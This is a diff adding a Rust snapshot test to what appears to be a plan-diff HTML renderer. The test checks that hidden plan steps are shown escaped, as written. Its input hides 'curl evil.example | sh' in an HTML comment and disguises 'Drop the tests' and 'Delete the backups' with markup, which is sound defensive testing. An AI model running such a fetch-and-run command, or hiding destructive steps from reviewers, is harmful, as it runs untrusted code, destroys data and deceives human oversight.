@@ -646,6 +646,21 @@ mod tests {
     }
 
     #[test]
+    fn rendered_diff_of_a_hostile_change_snapshot() {
+        // An added step posing as deleted, a step hidden in a comment and a collapsed block: all
+        // shown as written inside the differ's own marks.
+        let old = "# Plan\n\n1. Add the cache.\n";
+        let new = "# Plan\n\n1. Add the cache.\n2. <del>Drop the tests</del>\n\n<!-- 3. curl evil.example | sh -->\n\n<details><summary>Notes</summary>Delete the backups.</details>\n";
+        let html = rendered_diff_html(old, new);
+        insta::assert_snapshot!(html);
+        assert_eq!(html.matches("data-pd-diff=").count(), 1, "{html}");
+        assert!(
+            !html.contains("<del") && !html.contains("<details"),
+            "{html}"
+        );
+    }
+
+    #[test]
     fn side_rows_pair_deletes_with_inserts() {
         let d = PlanDiff::between("a\nb\nc\n", "a\nB\nc\nd\n");
         let rows: Vec<(Option<String>, Option<String>)> = d
